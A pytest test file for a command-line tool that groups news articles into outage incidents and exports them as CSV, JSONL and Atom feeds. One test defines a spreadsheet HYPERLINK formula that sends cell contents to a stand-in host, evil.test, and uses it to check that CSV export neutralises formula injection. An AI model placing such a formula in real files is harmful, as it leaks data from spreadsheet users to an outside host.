"""The incident commands, run through `pannes.app.cli.main` on a real database file."""

from __future__ import annotations

import csv
import io
import json

import pytest
from lxml import etree

from pannes.app.cli import build_parser, main


@pytest.fixture
def db(gold_store):
    path = gold_store.path
    gold_store.close()
    return str(path)


def _run(capsys, *argv):
    code = main(list(argv))
    out = capsys.readouterr()
    return code, out.out, out.err


def test_commands_are_registered_with_help():
    parser = build_parser()
    help_text = parser.format_help()
    for name in ("group", "correct", "vendors", "export", "feed"):
        assert name in help_text
    args = parser.parse_args(["correct", "split", "x", "--articles", "1,2", "--editor", "a"])
    assert args.incident_id == "x" and args.articles == "1,2"
    args = parser.parse_args(["vendors", "--compare", "A", "B", "--since", "2024-01-01"])
    assert args.compare == ["A", "B"] and args.since.isoformat() == "2024-01-01"


def test_group_correct_vendors_export_feed(capsys, db, tmp_path, monkeypatch):
    monkeypatch.delenv("PANNES_EDITOR", raising=False)
    code, out, _ = _run(capsys, "group", "--db", db, "--json")
    report = json.loads(out)
    assert code == 0 and report["created"] and report["incidents"] == len(report["created"])
    code, out, _ = _run(capsys, "group", "--db", db)
    assert code == 0 and "0 new, 0 updated, 0 removed" in out
    code, out, _ = _run(capsys, "group", "--db", db, "--recompute")
    assert code == 0 and "0 new, 0 updated, 0 removed" in out

    hexaline = next(i for i in report["created"] if i.startswith("hexaline-2024-10-17"))
    code, _, err = _run(capsys, "correct", "incident", hexaline, "cause", "hardwar", "--db", db,
                        "--editor", "alice")
    assert code == 65 and "Did you mean 'hardware'" in err
    code, _, err = _run(capsys, "correct", "incident", hexaline, "cause", "hardware", "--db", db)
    assert code == 65 and "--editor" in err
    code, out, _ = _run(capsys, "correct", "incident", hexaline, "cause", "hardware", "--db", db,
                        "--editor", "alice", "--note", "rapport")
    assert code == 0 and "cause: hardware" in out
    code, out, _ = _run(capsys, "correct", "history", hexaline, "--db", db, "--json")
    [entry] = [json.loads(line) for line in out.splitlines()]
    assert (entry["editor"], entry["before"], entry["value"]) == ("alice", "software_bug", "hardware")

    code, out, _ = _run(capsys, "vendors", "--compare", "hexaline", "monetia", "--db", db, "--json")
    data = json.loads(out)
    assert [v["vendor"] for v in data["vendors"]] == ["Hexaline", "Monétia"]
    assert "unknown duration" in data["note"]
    code, _, err = _run(capsys, "vendors", "nosuchvendor", "--db", db)
    assert code == 65 and "No incident names the vendor" in err

    target = tmp_path / "out" / "incidents.csv"
    code, _, err = _run(capsys, "export", "incidents", "-o", str(target), "--vendor", "Hexaline",
                        "--db", db)
    assert code == 0 and "exported as csv" in err
    rows = list(csv.DictReader(io.StringIO(target.read_text(encoding="utf-8"))))
    assert rows and all("Hexaline" in r["vendors"] for r in rows)
    code, out, _ = _run(capsys, "export", "articles", "-f", "jsonl", "--outages-only", "--db", db)
    assert code == 0 and all(json.loads(line)["tags"]["is_outage"] for line in out.splitlines())

    feed = tmp_path / "feed.xml"
    code, _, _ = _run(capsys, "feed", "-o", str(feed), "--vendor", "Hexaline", "--db", db)
    root = etree.parse(str(feed)).getroot()
    assert code == 0 and root.tag == "{http://www.w3.org/2005/Atom}feed"


def test_export_and_feed_match_vendors_like_vendors_and_refuse_typos(capsys, db, tmp_path):
    assert _run(capsys, "group", "--db", db)[0] == 0
    exact = tmp_path / "exact.jsonl"
    assert _run(capsys, "export", "incidents", "-o", str(exact), "--vendor", "Monétia",
                "--db", db)[0] == 0
    expected = exact.read_text(encoding="utf-8")
    assert expected.count("\n") >= 1
    folded = tmp_path / "folded.jsonl"
    code, _, err = _run(capsys, "export", "incidents", "-o", str(folded), "--vendor", "MONETIA",
                        "--db", db)
    assert code == 0 and folded.read_text(encoding="utf-8") == expected

    code, out, _ = _run(capsys, "export", "articles", "-f", "jsonl", "--vendor", "hexaline",
                        "--db", db)
    rows = [json.loads(line) for line in out.splitlines()]
    assert code == 0 and rows and all("Hexaline" in r["tags"]["vendors"] for r in rows)

    target = tmp_path / "typo.csv"
    code, out, err = _run(capsys, "export", "incidents", "-o", str(target), "--vendor",
                          "Hexalin", "--db", db)
    assert code == 65 and "No incident names the vendor 'Hexalin'" in err
    assert "Did you mean Hexaline" in err and "Traceback" not in err
    assert not target.exists()  # nothing written, not an empty file

    feed = tmp_path / "feed.xml"
    code, _, _ = _run(capsys, "feed", "-o", str(feed), "--vendor", "hexaline", "--db", db)
    root = etree.parse(str(feed)).getroot()
    entries = root.findall("{http://www.w3.org/2005/Atom}entry")
    assert code == 0 and entries
    code, _, err = _run(capsys, "feed", "--vendor", "Hexalnie", "--db", db)
    assert code == 65 and "Did you mean Hexaline" in err


@pytest.mark.parametrize(("argv", "needle"), [
    (["export", "incidents", "--impact", "outage"], "Unknown impact label 'outage'"),
    (["export", "articles", "--cause", "cyber"], "Unknown cause label 'cyber'"),
    (["export", "incidents", "--cause", "hardwar"], "Did you mean 'hardware'"),
    (["feed", "--impact", "data breach leak"], "Unknown impact label"),
])
def test_export_and_feed_refuse_unknown_labels_listing_the_allowed_ones(capsys, db, argv,
                                                                         needle):
    code, out, err = _run(capsys, *argv, "--db", db)
    assert code == 65 and needle in err and out == ""
    allowed = "service_unavailable" if "--impact" in argv else "configuration_change"
    assert allowed in err


def test_labels_are_read_whatever_their_case(capsys, db):
    assert _run(capsys, "group", "--db", db)[0] == 0
    code, out, _ = _run(capsys, "export", "incidents", "-f", "jsonl", "--impact", "Data-Breach",
                        "--db", db)
    rows = [json.loads(line) for line in out.splitlines()]
    assert code == 0 and rows and all("data_breach" in r["impact"] for r in rows)


FORMULA = '=HYPERLINK("http://evil.test/?x="&A1,"Cliquez")'


def test_csv_export_makes_formula_cells_inert_and_jsonl_keeps_them(capsys, make_store,
                                                                    tmp_path):
    from datetime import date

    from pannes.incidents.export import incident_from_row
    from pannes.incidents.regroup import regroup

    from pannes.records import Article, Tags

    store = make_store("formula.db")
    result = store.upsert_article(Article(
        url="http://news.test/1", source="@Source", title=FORMULA,
        text="Panne chez Hexaline : les clients privés de service toute la journée.",
        published=date(2024, 10, 17)))
    store.save_tags(result.article_id, result.version,
                    Tags(is_outage=True, outage_score=1.0, vendors=["+Hexaline"],
                         affected=["-Mairie"], start=date(2024, 10, 17),
                         pipeline_version="gold"))
    regroup(store)
    db = str(store.path)
    store.close()

    code, out, _ = _run(capsys, "export", "incidents", "-f", "csv", "--db", db)
    [row] = list(csv.DictReader(io.StringIO(out)))
    assert code == 0
    assert row["title"] == "'" + FORMULA
    assert row["vendors"] == "'+Hexaline" and row["affected"] == "'-Mairie"
    assert all(not cell.startswith(("=", "+", "-", "@")) for cell in row.values())
    parsed = incident_from_row(row)  # reading back gives the text again
    assert (parsed.title, parsed.vendors, parsed.affected) == (FORMULA, ["+Hexaline"],
                                                               ["-Mairie"])
    code, out, _ = _run(capsys, "export", "articles", "-f", "csv", "--db", db)
    [row] = list(csv.DictReader(io.StringIO(out)))
    assert (row["title"], row["source"]) == ("'" + FORMULA, "'@Source")

    code, out, _ = _run(capsys, "export", "incidents", "-f", "jsonl", "--db", db)
    [data] = [json.loads(line) for line in out.splitlines()]
    assert data["title"] == FORMULA and data["vendors"] == ["+Hexaline"]
    code, out, _ = _run(capsys, "export", "articles", "-f", "jsonl", "--db", db)
    [data] = [json.loads(line) for line in out.splitlines()]
    assert (data["title"], data["source"]) == (FORMULA, "@Source")
